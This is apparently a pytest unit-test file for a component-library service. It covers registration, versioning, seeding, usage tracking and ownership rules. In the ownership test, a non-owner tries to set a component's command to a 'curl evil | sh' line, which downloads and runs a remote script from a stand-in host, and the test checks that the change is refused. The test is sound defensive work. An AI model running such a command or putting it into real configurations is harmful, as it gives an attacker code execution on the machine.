"""The library's handlers through its message bus, on an in-memory unit of work (no servers)."""
from __future__ import annotations

from datetime import datetime, timedelta, timezone

import pytest

from contracts.events import AppDeleted, AppSpecCreated, make_event
from contracts.spec import AppSpec
from services.kit.errors import Conflict, Forbidden, NotFound
from services.kit.messagebus import MessageBus
from services.library import handlers
from services.library.commands import RegisterComponent, SeedCatalog, TransferComponent, UpdateComponent
from services.library.schemas import ComponentRegistration
from tests.unit.library.fakes import LibraryState, unit_of_works

USER = "kim"
T0 = datetime(2026, 1, 1, tzinfo=timezone.utc)


def registration(name: str = "env-simulator", **fields) -> ComponentRegistration:
    return ComponentRegistration.model_validate({
        "name": name, "image": {"registry": "registry.avatar.io/env-sim", "tag": "1.0"}, "type": "trainer",
        "resources": {"gpu_type": "A100", "gpu_count": 2, "memory": "64GB"}, **fields})


@pytest.fixture
def state() -> LibraryState:
    return LibraryState()


@pytest.fixture
def uows(state):
    return unit_of_works(state)


@pytest.fixture
def bus(uows) -> MessageBus:
    return MessageBus(uows, commands=handlers.COMMANDS, events=handlers.EVENTS)


async def test_registering_a_component_stores_its_first_version_and_publishes_component_registered(bus, state, uows):
    component_id = await bus.handle(RegisterComponent(registration(), USER))

    assert component_id == "CL-REF-001"
    assert [(v.snapshot.version, v.created_by) for v in state.versions[component_id]] == [("1.0.0", USER)]
    [event] = uows.published
    assert (event.type, event.correlation_id) == ("component.registered", component_id)
    assert event.data.component == state.components[component_id]


async def test_registering_a_name_already_taken_is_a_conflict_and_publishes_nothing_more(bus, state, uows):
    await bus.handle(RegisterComponent(registration("same"), USER))
    with pytest.raises(Conflict) as refused:
        await bus.handle(RegisterComponent(registration("same"), USER))
    assert refused.value.code == "name_taken"
    assert (list(state.components), uows.types()) == (["CL-REF-001"], ["component.registered"])


async def test_updating_a_component_writes_the_next_version_keeps_the_previous_and_publishes_component_updated(
        bus, state, uows):
    cid = await bus.handle(RegisterComponent(registration(), USER))

    await bus.handle(UpdateComponent(cid, {"description": "faster"}, "lee", is_admin=True))

    assert [(v.snapshot.version, v.changed, v.created_by) for v in state.versions[cid]] == [
        ("1.0.0", [], USER), ("1.0.1", ["description"], "lee")]
    updated = uows.published[-1]
    assert (updated.type, updated.correlation_id, updated.data.component.version) == ("component.updated", cid, "1.0.1")
    assert state.components[cid].description == "faster"


async def test_an_update_that_changes_nothing_writes_no_version_and_publishes_nothing(bus, state, uows):
    cid = await bus.handle(RegisterComponent(registration(description="same"), USER))
    await bus.handle(UpdateComponent(cid, {"description": "same"}, USER))
    assert (len(state.versions[cid]), uows.types()) == (1, ["component.registered"])


async def test_an_update_to_a_version_the_component_already_had_is_a_conflict(bus, state, uows):
    cid = await bus.handle(RegisterComponent(registration(), USER))
    await bus.handle(UpdateComponent(cid, {"version": "2.0.0"}, USER))
    with pytest.raises(Conflict) as refused:
        await bus.handle(UpdateComponent(cid, {"version": "1.0.0", "description": "back"}, USER))
    assert refused.value.code == "version_exists"
    assert state.components[cid].version == "2.0.0"
    assert uows.types() == ["component.registered", "component.updated"]


async def test_updating_an_unknown_component_is_not_found(bus):
    with pytest.raises(NotFound):
        await bus.handle(UpdateComponent("CL-REF-404", {"description": "x"}, USER))


async def test_seeding_an_empty_library_registers_every_entry_as_the_seed_user_under_the_seed_lock(bus, state, uows):
    count = await bus.handle(SeedCatalog([registration("a"), registration("b")]))

    assert count == 2 and state.locked_for_seeding == 1
    assert {v.created_by for versions in state.versions.values() for v in versions} == {handlers.SEED_USER}
    assert set(state.owners.values()) == {None}  # the platform's own: only an admin changes them
    assert uows.types() == ["component.registered", "component.registered"]


async def test_seeding_a_library_that_already_has_components_registers_nothing(bus, state, uows):
    await bus.handle(RegisterComponent(registration("mine"), USER))
    assert await bus.handle(SeedCatalog([registration("a")])) == 0
    assert (list(state.components), uows.types()) == (["CL-REF-001"], ["component.registered"])


async def test_seeding_with_no_catalog_touches_nothing(bus, state):
    assert await bus.handle(SeedCatalog([])) == 0
    assert state.locked_for_seeding == 0


def spec(app_id: str, created_at: datetime, *component_ids: str) -> AppSpec:
    return AppSpec.model_validate({
        "app_id": app_id, "name": app_id.lower(), "version": "1.0.0", "created_at": created_at,
        "tasks": [{"task_id": "TASK-001", "name": "optimise", "components": [
            {"component_id": cid, "name": cid, "image": {"registry": "r.io/x", "tag": "1"},
             "resources": {"gpu_type": "A100", "gpu_count": 1, "memory": "16GB"}} for cid in component_ids],
            "workflow": []}]})


def spec_created(app_spec: AppSpec):
    return make_event("app.spec_created", AppSpecCreated(app_id=app_spec.app_id, version=app_spec.version,
                                                         spec=app_spec), producer="builder",
                      correlation_id=app_spec.app_id)


def app_deleted(app_id: str, at: datetime):
    event = make_event("app.deleted", AppDeleted(app_id=app_id, deleted_by=USER), producer="builder",
                       correlation_id=app_id)
    return event.model_copy(update={"occurred_at": at})


async def test_a_spec_makes_used_in_list_the_components_it_places_that_the_library_knows(bus, state, uows):
    cid = await bus.handle(RegisterComponent(registration(), USER))
    await bus.handle_event(spec_created(spec("APP-AAAAAA", T0, cid, "CL-REF-999")))
    assert state.used_in(cid) == [("APP-AAAAAA", "TASK-001")]
    assert [u.component_id for u in state.usage["APP-AAAAAA"]] == [cid]
    assert uows.types() == ["component.registered"]


async def test_an_older_spec_arriving_late_does_not_replace_the_newer_specs_usage(bus, state):
    a = await bus.handle(RegisterComponent(registration("a"), USER))
    b = await bus.handle(RegisterComponent(registration("b"), USER))
    await bus.handle_event(spec_created(spec("APP-AAAAAA", T0 + timedelta(minutes=1), b)))
    await bus.handle_event(spec_created(spec("APP-AAAAAA", T0, a)))
    assert (state.used_in(a), state.used_in(b)) == ([], [("APP-AAAAAA", "TASK-001")])


async def test_a_deleted_app_leaves_used_in_and_a_spec_from_before_the_deletion_does_not_bring_it_back(bus, state):
    cid = await bus.handle(RegisterComponent(registration(), USER))
    await bus.handle_event(spec_created(spec("APP-AAAAAA", T0, cid)))
    await bus.handle_event(app_deleted("APP-AAAAAA", T0 + timedelta(minutes=2)))
    await bus.handle_event(spec_created(spec("APP-AAAAAA", T0 + timedelta(minutes=1), cid)))
    assert state.used_in(cid) == []


# ---------------------------------------------------------------- ownership

async def test_a_component_is_owned_by_whoever_registered_it(bus, state):
    cid = await bus.handle(RegisterComponent(registration(), USER))
    assert state.owners[cid] == USER


async def test_nobody_but_the_owner_or_an_admin_changes_a_component_and_the_refusal_names_the_owner(bus, state, uows):
    cid = await bus.handle(RegisterComponent(registration(command=["python", "-m", "components.env_simulator"]), USER))
    with pytest.raises(Forbidden, match=f"component {cid} belongs to 'kim'; only its owner or an admin may change it"):
        await bus.handle(UpdateComponent(cid, {"command": ["sh", "-c", "curl evil | sh"]}, "lee"))
    assert state.components[cid].command == ["python", "-m", "components.env_simulator"]
    assert [v.snapshot.version for v in state.versions[cid]] == ["1.0.0"] and uows.types() == ["component.registered"]

    await bus.handle(UpdateComponent(cid, {"description": "by the owner"}, USER))
    await bus.handle(UpdateComponent(cid, {"description": "by an admin"}, "admin", is_admin=True))
    assert [v.created_by for v in state.versions[cid]] == [USER, USER, "admin"]


async def test_a_seeded_component_is_changed_by_an_admin_only(bus, state):
    await bus.handle(SeedCatalog([registration("seeded")]))
    with pytest.raises(Forbidden, match="component CL-REF-001 belongs to the platform"):
        await bus.handle(UpdateComponent("CL-REF-001", {"description": "mine"}, handlers.SEED_USER))
    await bus.handle(UpdateComponent("CL-REF-001", {"description": "curated"}, "admin", is_admin=True))


async def test_an_admin_transfers_a_component_without_a_new_version_and_only_an_admin_may(bus, state, uows):
    cid = await bus.handle(RegisterComponent(registration(), USER))
    for user in (USER, "lee"):
        with pytest.raises(Forbidden, match=f"only an admin may transfer component {cid}"):
            await bus.handle(TransferComponent(cid, "lee", user))
    await bus.handle(TransferComponent(cid, "lee", "admin", is_admin=True))

    assert state.owners[cid] == "lee" and state.transfers == [(cid, USER, "lee", "admin")]
    assert len(state.versions[cid]) == 1 and uows.types() == ["component.registered"]
    await bus.handle(UpdateComponent(cid, {"description": "lee's now"}, "lee"))
    with pytest.raises(Forbidden, match="belongs to 'lee'"):
        await bus.handle(UpdateComponent(cid, {"description": "mine again"}, USER))
